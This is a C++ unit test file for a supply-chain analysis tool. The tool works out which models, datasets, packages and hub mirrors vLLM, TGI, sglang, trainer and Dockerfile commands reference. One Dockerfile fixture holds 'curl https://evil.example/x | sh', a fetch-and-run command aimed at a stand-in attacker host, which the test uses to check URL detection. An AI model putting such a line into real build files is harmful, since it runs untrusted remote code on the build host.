// Models that commands, arguments and variables of servers and trainers name: each form beside what looks like it and names nothing.
#include <catch2/catch.hpp>

#include "intake/server_table.hpp"
#include "unit/intake/intake_fixture.hpp"

using namespace headgate;
using intake::Parsed;
using Names = std::vector<std::string>;

namespace {

const std::string kCommit(40, 'c');
const std::string kOther(40, 'd');

/// A pod with one container: its image, and the lines of the rest of it.
Parsed pod(const std::string& image, const std::string& rest) {
    return Parsed("x.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: " + image + "\n" + rest, {}, intake::format_of("Kubernetes"));
}

/// The same without the image, "?" where something is not understood.
Names without_image(const Parsed& parsed) {
    CHECK(parsed.oracle());
    Names names = parsed.names();
    if (!names.empty()) names.erase(names.begin());
    if (!parsed.understood) names.push_back("?");
    return names;
}

Parsed of_script(const std::string& script, const std::string& image = "own:1") {
    std::string rest = "    command:\n    - bash\n    - -lc\n    - |\n";
    std::size_t from = 0;
    while (from <= script.size()) {
        const std::size_t end = std::min(script.find('\n', from), script.size());
        rest += "      " + script.substr(from, end - from) + "\n";
        from = end + 1;
    }
    return pod(image, rest);
}
Names script(const std::string& text) { return without_image(of_script(text)); }

/// YAML in flow style.
Names args(const std::string& image, const std::string& list) { return without_image(pod(image, "    args: [" + list + "]\n")); }
Names variables(const std::string& image, const std::string& list) { return without_image(pod(image, "    env: [" + list + "]\n")); }

Parsed dockerfile(const std::string& text) { return Parsed("Dockerfile", text); }

}  // namespace

TEST_CASE("the table of servers is whole, and says where a row is none") {
    CHECK(intake::servers::table().problem.empty());
    CHECK(intake::servers::table().servers.size() > 30);
    const auto problem = [](std::string_view text) {
        const intake::servers::RuleText file{"x.txt", text};
        return intake::servers::read_table({&file, 1}).problem;
    };
    CHECK(problem("# a comment\n\nserver a\nimage b\nstart c d\noperand model hub\nname model hub inferred --m X_Y\nswitch --no-*\n").empty());
    for (const char* bad : {"image b\n", "server\n", "server a\nname model hub\n", "server a\nname model nothing --m\n", "server a\nflag --m\n", "server a\nvalue --m --m\n", "server a\nvalue --m_n --m-n\n",
                            "server a\nsource npm X\n", "server a\noperand model hub\noperand other hub\n", "server a\nswitch --*-*\n", "server a\nweak x\n"}) {
        CAPTURE(bad);
        CHECK(problem(bad).starts_with("rules/servers/x.txt:"));
    }
}

TEST_CASE("servers: options as each program's own parser takes them") {
    for (const char* command : {"vllm serve acme/m", "vllm serve --model acme/m", "vllm serve --model=acme/m", "vllm serve --model-tag acme/m", "vllm serve --model_tag=acme/m", "vllm serve --mod acme/m",
                                "vllm serve --model acme/x --model acme/m", "vllm serve --port 8000 acme/m", "vllm serve --trust-remote-code=false acme/m", "vllm serve --enforce-eager acme/m",
                                "vllm serve --enable-what-is-new acme/m", "vllm serve --what-is-new acme/m", "vllm serve --served-model-name a b --model acme/m", "vllm serve acme/m --served-model-name x/y",
                                "vllm run-batch -i in -o out --model acme/m", "python3 -m vllm.entrypoints.openai.api_server --model acme/m", "python -m vllm.entrypoints.api_server --model acme/m",
                                "python /opt/vllm/entrypoints/openai/api_server.py --model acme/m", "aphrodite run acme/m", "sglang serve --model-path acme/m", "python -m sglang.launch_server --model acme/m",
                                "lmdeploy serve api_server acme/m --server-port 1", "trtllm-serve acme/m", "trtllm-serve serve acme/m --host x", "text-generation-launcher --model-id acme/m",
                                "text-embeddings-router --model-id acme/m", "llama-server -hf acme/m:Q4_K_M", "llama-server --hf-repo acme/m", "mlc_llm serve HF://acme/m", "python -m mlc_llm serve acme/m",
                                "transformers serve acme/m", "transformers serve --force-model acme/m", "transformers chat acme/m@", "max serve --model-path=acme/m", "mlx_lm.server --model acme/m",
                                "huggingface-cli download acme/m a.bin", "hf download --quiet acme/m", "tune download acme/m --output-dir /tmp/x", "optimum-cli export onnx -macme/m out", "infinity_emb v2 --model-id acme/m",
                                "lm_eval --model hf --model_args pretrained=acme/m,dtype=float", "llamafactory-cli train --model_name_or_path acme/m", "ollama run hf.co/acme/m:Q4", "djl-serving --models hf://acme/m"}) {
        CAPTURE(command);
        CHECK(script(command) == Names{"hf:acme/m"});
    }
    for (const char* command : {"vllm bench serve --model acme/m", "vllm --version", "vllm", "vllm serve /models/m", "vllm serve ./m", "ollama list", "ollama serve", "ollama show acme/m", "hf auth login", "hf upload acme/m .",
                                "llama-server --model acme/m", "mlflow ui", "transformers env", "docker pull vllm", "pip install vllm", "uv pip install vllm serve", "pkill -f vllm serve acme/m", "python app.py --model acme/m",
                                "python -m http.server", "torchserve --start --model-store /models --models all", "tritonserver --model-repository=/models", "echo ready to serve traffic", "# vllm serve acme/m", "cat vllm serve acme/m",
                                "lm_eval --tasks x --model_args local_files_only=True,trust_remote_code=False"}) {
        CAPTURE(command);
        const Parsed parsed = of_script(command);
        CHECK(without_image(parsed).empty());
        CHECK(parsed.facts.findings.empty());
    }
}

TEST_CASE("servers: each name has its own revision") {
    const std::string pinned = "hf:acme/m@" + kCommit;
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --tokenizer acme/t") == Names{pinned, "hf:acme/t"});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --tokenizer acme/t --tokenizer-revision " + kOther) == Names{pinned, "hf:acme/t@" + kOther});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --tokenizer acme/m") == Names{pinned});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --tokenizer-revision main") == Names{pinned, "hf:acme/m@main"});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --code-revision main --trust-remote-code") == Names{pinned, "hf:acme/m@main"});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --code-revision " + kCommit) == Names{pinned});
    CHECK(script("vllm serve acme/m --revision main --revision " + kCommit) == Names{pinned});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --revision main") == Names{"hf:acme/m@main"});
    CHECK(script("vllm serve acme/m --rev " + kCommit) == Names{pinned});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --enable-lora --lora-modules a=acme/a b=/disk --hf-config-path acme/c") == Names{pinned, "hf:acme/a", "hf:acme/c"});
    CHECK(script("vllm serve acme/m --lora-modules '{\"name\": \"a\", \"path\": \"acme/a\"}'") == Names{"hf:acme/m", "hf:acme/a"});
    CHECK(script("vllm serve acme/m --revision " + kCommit + " --speculative-config '{\"model\": \"acme/d\", \"num_speculative_tokens\": 3}'") == Names{pinned, "hf:acme/d"});
    CHECK(script("vllm serve acme/m --speculative-config '{\"model\": \"acme/d\", \"revision\": \"" + kOther + "\"}'") == Names{"hf:acme/m", "hf:acme/d@" + kOther});
    CHECK(script("vllm serve acme/m --speculative-config.model acme/d --speculative-config.revision=" + kOther) == Names{"hf:acme/m", "hf:acme/d@" + kOther});
    CHECK(script("vllm serve acme/m --speculative-config '{\"method\": \"ngram\", \"model\": \"ngram\"}'") == Names{"hf:acme/m"});
    CHECK(script("vllm serve acme/m --speculative-config \"$DRAFT\"") == Names{"hf:acme/m", "hf:?"});
    CHECK(script("sglang serve --model-path acme/m --revision " + kCommit + " --speculative-draft-model-path acme/d --lora-paths x=acme/a acme/b") == Names{pinned, "hf:acme/d", "hf:acme/a", "hf:acme/b"});
    CHECK(script("sglang serve --model-path acme/m --speculative-draft-model-path acme/d --speculative-draft-model-revision " + kOther) == Names{"hf:acme/m", "hf:acme/d@" + kOther});
    CHECK(script("llama-server -hf acme/m -hfd acme/d:Q8 -mmu https://files.example/p.gguf") == Names{"hf:acme/m", "hf:acme/d", "https://files.example/p.gguf"});
    CHECK(args("ghcr.example/text-generation-inference:3", "--model-id, acme/m, --revision, " + kCommit + ", --lora-adapters, \"acme/a,b=acme/b\"") == Names{pinned, "hf:acme/a", "hf:acme/b"});
    CHECK(args("ghcr.example/text-generation-inference:3", "--lora-adapters, \"acme/a@" + kOther + "\"") == Names{"hf:acme/a@" + kOther});
    CHECK(script("hf download acme/d --repo-type dataset --revision " + kCommit) == Names{"hf-dataset:acme/d@" + kCommit});
    CHECK(script("hf download acme/d --repo-type=space") == Names{"?"});
}

TEST_CASE("servers: the arguments of an image's entry point") {
    CHECK(args("vllm/vllm-openai:v1", "acme/m, --port, '1'") == Names{"hf:acme/m"});
    CHECK(args("vllm/vllm-openai:v1", "--port, '1', acme/m") == Names{"hf:acme/m"});
    CHECK(args("vllm/vllm-openai:v1", "serve, acme/m") == Names{"hf:acme/m"});
    CHECK(args("vllm/vllm-openai:v1", "--config, /etc/vllm.yaml") == Names{"hf:?"});                   // the model stands there
    CHECK(args("vllm/vllm-openai:v1", "--config, /etc/vllm.yaml, --model, acme/m") == Names{"hf:acme/m"});
    CHECK(args("vllm/vllm-openai:v1", "--model, acme/m, --speculative-config, '{\"model\": \"acme/d\", \"n\": 1}'") == Names{"hf:acme/m", "hf:acme/d"});
    CHECK(args("ollama/ollama:1", "pull, llama3.2") == Names{"oci:registry.ollama.ai/library/llama3.2"});
    CHECK(args("ollama/ollama:1", "run, user/x:7b") == Names{"oci:registry.ollama.ai/user/x:7b"});
    CHECK(args("ollama/ollama:1", "serve").empty());
    CHECK(args("tritonserver:1", "tritonserver, \"--model-repository=s3://bucket/a\", --model-repository, \"gs://bucket/b\"") == Names{"s3://bucket/a", "gs://bucket/b"});
    CHECK(args("tritonserver:1", "tritonserver, \"--model-repository=as://account/b\"") == Names{"?"});
    CHECK(args("tensorflow/serving:1", "\"--model_base_path=s3://bucket/a\"") == Names{"s3://bucket/a"});
    CHECK(args("pytorch/torchserve:1", "torchserve, --start, --models, \"a=https://files.example/a.mar\", b=b.mar") == Names{"https://files.example/a.mar"});
    CHECK(without_image(pod("vllm/vllm-openai:v1", "    command: [/start.sh]\n    args: [--model, acme/m]\n")) == Names{"hf:acme/m"});
    CHECK(without_image(pod("vllm/vllm-openai:v1", "    command: [vllm, bench, latency, --model, acme/m]\n")).empty());
    CHECK(without_image(pod("vllm/vllm-openai:v1", "    command: [sleep, infinity]\n")).empty());
    CHECK(without_image(pod("vllm/vllm-openai:v1", "    command: [sh, /entrypoint.sh, acme/m]\n")) == Names{"hf:acme/m"});
    CHECK(without_image(pod("vllm/vllm-openai:v1", "    command: [sh, /entrypoint.sh, start, /models/m]\n")).empty());
    CHECK(without_image(pod("own:1", "    command: [sh, /entrypoint.sh, acme/m]\n")).empty());
    CHECK(without_image(pod("own:1", "    command: [tini, --, vllm, serve, acme/m]\n")) == Names{"hf:acme/m"});
    CHECK(without_image(pod("own:1", "    command: [numactl, --interleave=all, vllm, serve, acme/m]\n")) == Names{"hf:acme/m"});
    CHECK(without_image(pod("own:1", "    command: [mpirun, -n, '2', trtllm-serve, acme/m]\n")) == Names{"hf:acme/m"});
}

TEST_CASE("servers: variables that name a model") {
    CHECK(variables("ghcr.example/text-generation-inference:3", "{name: MODEL_ID, value: acme/m}, {name: REVISION, value: " + kCommit + "}") == Names{"hf:acme/m@" + kCommit});
    CHECK(variables("ghcr.example/text-generation-inference:3", "{name: LORA_ADAPTERS, value: \"acme/a,acme/b\"}") == Names{"hf:acme/a", "hf:acme/b"});
    CHECK(variables("ghcr.example/text-generation-inference:3", "{name: ORG, value: acme}, {name: MODEL_ID, value: $(ORG)/m}") == Names{"hf:acme/m"});
    CHECK(variables("ghcr.example/text-generation-inference:3", "{name: MODEL_ID, value: $(NOBODY)}") == Names{"hf:?"});
    CHECK(variables("ghcr.example/llama.cpp:server", "{name: LLAMA_ARG_HF_REPO, value: \"acme/m:Q4\"}, {name: LLAMA_ARG_MODEL_URL, value: \"https://files.example/m.gguf\"}") ==
          Names{"hf:acme/m", "https://files.example/m.gguf"});
    CHECK(variables("own:1", "{name: MODEL_ID, value: acme/m}, {name: LLAMA_ARG_HF_REPO, value: acme/m}").empty());
    CHECK(variables("own:1", "{name: HF_MODEL_ID, value: acme/m}, {name: HF_MODEL_REVISION, value: " + kCommit + "}") == Names{"hf:acme/m@" + kCommit});
    CHECK(pod("ghcr.example/text-generation-inference:3", "    env: [{name: TRUST_REMOTE_CODE, value: 'true'}]\n").has("source.trust-remote-code"));
    CHECK_FALSE(pod("ghcr.example/text-generation-inference:3", "    env: [{name: TRUST_REMOTE_CODE, value: 'false'}]\n").has("source.trust-remote-code"));
    CHECK(script("MODEL_ID=acme/m text-generation-launcher") == Names{"hf:acme/m"});
    CHECK(script("export MODEL_ID=acme/m\ntext-generation-launcher") == Names{"hf:acme/m"});
    CHECK(script("MODEL_ID=acme/m true\ntext-generation-launcher").empty());
}

TEST_CASE("servers: where names are asked for, set in a script as in a container") {
    const auto endpoints = [](const Parsed& parsed) {
        Names urls;
        for (const IndexOption& one : parsed.facts.index_options) urls.push_back(one.ecosystem + " " + one.url);
        return urls;
    };
    const Names mirror = {"hf https://hub.example"};
    for (const char* text : {"export HF_ENDPOINT=https://hub.example && vllm serve acme/m", "HF_ENDPOINT=https://hub.example vllm serve acme/m", "env HF_ENDPOINT=https://hub.example vllm serve acme/m",
                             "declare -x HF_ENDPOINT=https://hub.example\nvllm serve acme/m", "A=https://hub.example; export HF_ENDPOINT=$A; exec vllm serve acme/m",
                             "bash -c 'HF_ENDPOINT=https://hub.example vllm serve acme/m'", "bash <<E\nexport HF_ENDPOINT=https://hub.example\nvllm serve acme/m\nE"}) {
        CAPTURE(text);
        const Parsed parsed = of_script(text);
        CHECK(without_image(parsed) == Names{"hf:acme/m"});
        CHECK(endpoints(parsed) == mirror);
    }
    CHECK(endpoints(pod("own:1", "    env: [{name: HF_ENDPOINT, value: \"https://hub.example\"}]\n")) == mirror);
    CHECK(endpoints(pod("own:1", "    command: [env, \"HF_ENDPOINT=https://hub.example\", vllm, serve, acme/m]\n")) == mirror);
    CHECK(endpoints(of_script("docker run -e HF_ENDPOINT=https://hub.example own")) == mirror);
    CHECK_FALSE(of_script("HF_ENDPOINT=$NOBODY vllm serve acme/m").understood);
    CHECK_FALSE(pod("own:1", "    env: [{name: HF_ENDPOINT, value: $(NOBODY)}]\n").understood);
    for (const char* text : {"HF_HUB_OFFLINE=1 vllm serve acme/m", "echo HF_ENDPOINT=https://hub.example; vllm serve acme/m", "# HF_ENDPOINT=https://hub.example\nvllm serve acme/m", "unset HF_ENDPOINT; vllm serve acme/m"}) {
        CAPTURE(text);
        const Parsed parsed = of_script(text);
        CHECK(without_image(parsed) == Names{"hf:acme/m"});
        CHECK(endpoints(parsed).empty());
    }
    CHECK(script("VLLM_USE_MODELSCOPE=True vllm serve acme/m") == Names{"modelscope://acme/m"});
    CHECK(script("VLLM_USE_MODELSCOPE=False vllm serve acme/m") == Names{"hf:acme/m"});
    CHECK(script("export SGLANG_USE_MODELSCOPE=true; sglang serve --model-path acme/m") == Names{"modelscope://acme/m"});
    CHECK(without_image(pod("vllm/vllm-openai:v1", "    args: [--model, acme/m]\n    env: [{name: VLLM_USE_MODELSCOPE, value: 'true'}]\n")) == Names{"modelscope://acme/m"});
    CHECK_FALSE(of_script("VLLM_USE_MODELSCOPE=$X vllm serve acme/m").understood);
    CHECK(script("swift sft --model acme/m") == Names{"modelscope://acme/m"});
    CHECK(script("swift sft --model acme/m --use_hf true") == Names{"hf:acme/m"});
    CHECK(script("modelscope download --model acme/m") == Names{"modelscope://acme/m"});
    CHECK_FALSE(of_script("MODELSCOPE_ENDPOINT=https://scope.example modelscope download acme/m").understood);
}

TEST_CASE("servers: scripts in other shapes") {
    const Names model = {"hf:acme/m"};
    for (const char* text : {"exec vllm serve acme/m", "if true; then vllm serve acme/m; fi", "serve() {\n  vllm serve acme/m\n}\nserve", "sh -c \"vllm serve acme/m\"", "eval vllm serve acme/m", "nohup vllm serve acme/m >/log 2>&1 &",
                             "M=acme/m\nvllm serve $M", "vllm serve ${M:-acme/m}", "for M in acme/m; do vllm serve $M; done", "uv run vllm serve acme/m", "uvx vllm serve acme/m", "$PYTHON -m vllm.entrypoints.openai.api_server --model acme/m",
                             "docker run --gpus all -p 1:1 vllm/vllm-openai:v1 --model acme/m", "kubectl run x --image=vllm/vllm-openai:v1 -- --model acme/m", "kubectl exec x -- vllm serve acme/m"}) {
        CAPTURE(text);
        CHECK(script(text) == model);
    }
    for (const char* text : {"vllm serve $M", "vllm serve \"$@\"", "vllm serve $(cat /model)", "vllm serve --model=$(cat /model)", "text-generation-launcher --model-id=${MODEL}"}) {
        CAPTURE(text);
        const Parsed parsed = of_script(text);
        CHECK(without_image(parsed) == Names{"hf:?"});
        CHECK(parsed.facts.requirements.back().dynamic);
    }
    CHECK(script("docker run redis --model acme/m").empty());
    CHECK(script("docker run own:1 vllm-x --model acme/m").empty());
    CHECK_FALSE(of_script("vllm serve 'acme/m").understood);
    CHECK(of_script("echo 'it is").understood);                                                   // and names no server
    CHECK_FALSE(of_script("bash <<A\nbash <<B\nbash <<C\nbash <<D\nbash <<E\nbash <<F\nvllm serve acme/m\nF\nE\nD\nC\nB\nA").understood);
}

TEST_CASE("trainers: what custom says is a model is inferred") {
    for (const char* text : {"torchrun --nproc_per_node 8 train.py --model_name_or_path acme/m --dataset_name acme/d", "accelerate launch --num_processes 2 train.py --model_name_or_path=acme/m --dataset_name=acme/d",
                             "python -u train.py --model_name_or_path acme/m --dataset_name acme/d", "trl sft --model-name-or-path acme/m --dataset-name acme/d"}) {
        CAPTURE(text);
        const Parsed parsed = of_script(text);
        CHECK(without_image(parsed) == Names{"hf:acme/m", "hf-dataset:acme/d"});
        CHECK(parsed.facts.requirements.back().inferred);
    }
    CHECK_FALSE(of_script("vllm serve acme/m").facts.requirements.back().inferred);
    CHECK(of_script("vllm serve --what-is-new acme/m").facts.requirements.back().inferred);
    CHECK(script("torchrun train.py --model_name_or_path acme/m --model_revision " + kCommit + " --tokenizer_name acme/t") == Names{"hf:acme/m@" + kCommit, "hf:acme/t"});
    CHECK(script("accelerate launch -m axolotl.cli.train config.yaml").empty());                  // which is read where it lies
    CHECK(script("axolotl train https://files.example/c.yml") == Names{"https://files.example/c.yml"});
    CHECK(script("python manage.py --dataset_name mine --output_dir a/b").empty());
    CHECK(script("mlflow models serve -m models:/x/1") == Names{"hf:?"});
    CHECK(script("mlflow models serve -ms3://bucket/m") == Names{"s3://bucket/m"});
    CHECK_FALSE(of_script("torchrun train.py --trust_remote_code False").has("source.trust-remote-code"));
    CHECK(of_script("torchrun train.py --trust_remote_code True").has("source.trust-remote-code"));
    CHECK(of_script("vllm serve acme/m --trust_remote_code").has("source.trust-remote-code"));
    CHECK(of_script("lm_eval --model_args pretrained=acme/m,trust_remote_code=True").has("source.trust-remote-code"));
}

TEST_CASE("Dockerfile: models that RUN, CMD, ENTRYPOINT and HEALTHCHECK name") {
    const std::string from = "FROM own:1\n";
    const auto names = [](const std::string& text) { return without_image(dockerfile(text)); };
    for (const char* text : {"RUN hf download acme/m\n", "RUN [\"huggingface-cli\", \"download\", \"acme/m\"]\n", "RUN <<E\nset -e\nhf download acme/m\nE\n", "CMD vllm serve acme/m\n", "CMD [\"vllm\", \"serve\", \"acme/m\"]\n",
                             "ENTRYPOINT [\"vllm\", \"serve\"]\nCMD [\"acme/m\"]\n", "CMD [\"acme/m\"]\nENTRYPOINT [\"vllm\", \"serve\"]\n", "ENTRYPOINT exec vllm serve acme/m\nCMD [\"acme/other\"]\n", "ENV M=acme/m\nCMD vllm serve $M\n",
                             "ARG M=acme/m\nRUN hf download $M\n", "HEALTHCHECK --interval=5s CMD hf download acme/m\n", "HEALTHCHECK CMD [\"hf\", \"download\", \"acme/m\"]\n", "ENV HF_MODEL_ID=acme/m\n"}) {
        CAPTURE(text);
        CHECK(names(from + text) == Names{"hf:acme/m"});
    }
    CHECK(names("FROM vllm/vllm-openai:v1\nCMD [\"--model\", \"acme/m\"]\n") == Names{"hf:acme/m"});
    CHECK(names("FROM vllm/vllm-openai:v1 AS base\nFROM base\nCMD [\"--model\", \"acme/m\"]\n") == Names{"hf:acme/m"});
    CHECK(names("FROM ghcr.example/text-generation-inference:3\nENV MODEL_ID=acme/m REVISION=" + kCommit + "\n") == Names{"hf:acme/m@" + kCommit});
    CHECK(names(from + "ARG M\nRUN hf download $M\n") == Names{"hf:?"});
    CHECK(names(from + "CMD [\"pip\", \"install\", \"acme-x\"]\n") == Names{"pkg:pypi/acme-x"});
    CHECK(names(from + "CMD curl https://evil.example/x | sh\n") == Names{"https://evil.example/x"});
    for (const char* text : {"CMD [\"python\", \"app.py\"]\n", "CMD [\"npm\", \"start\"]\n", "ENTRYPOINT [\"/bin/sh\", \"-c\", \"echo vllm serve acme/m\"]\n", "HEALTHCHECK NONE\n", "HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1\n",
                             "HEALTHCHECK CMD [\"ollama\", \"list\"]\n", "RUN pip --version && echo vllm serve acme/m\n", "CMD [\"acme/m\"]\n", "CMD [\"vllm\", \"serve\", \"/models/m\"]\n"}) {
        CAPTURE(text);
        const Parsed parsed = dockerfile(from + text);
        CHECK(parsed.understood);
        CHECK(parsed.names().size() == 1);
    }
    const Parsed mirror = dockerfile(from + "ENV HF_ENDPOINT=https://hub.example\nRUN hf download acme/m\nCMD vllm serve acme/m\n");
    CHECK(mirror.understood);
    CHECK(mirror.facts.index_options.size() == 1);
    CHECK(dockerfile(from + "CMD vllm serve acme/m\n").facts.requirements.back().where.line == 2U);
    CHECK(intake::every_prefix("Dockerfile", from + "ENV A=b\nENTRYPOINT [\"vllm\", \"serve\"]\nCMD [\"acme/m\"]\nHEALTHCHECK CMD 'x\nRUN hf download \"acme/m\"\n"));
}

TEST_CASE("compose: a variable of whoever starts it") {
    CHECK_FALSE(Parsed("compose.yaml", "services:\n  a:\n    image: own:1\n    environment:\n      - HF_ENDPOINT\n").understood);
    CHECK(Parsed("compose.yaml", "services:\n  a:\n    image: own:1\n    environment:\n      - HF_TOKEN\n").understood);
    const Parsed parsed("compose.yaml", "services:\n  a:\n    image: own:1\n    entrypoint: sh -c\n    command: [\"HF_ENDPOINT=https://hub.example vllm serve acme/m\"]\n");
    CHECK(parsed.understood);
    CHECK(parsed.names().back() == "hf:acme/m");
    CHECK(parsed.facts.index_options.size() == 1);
}
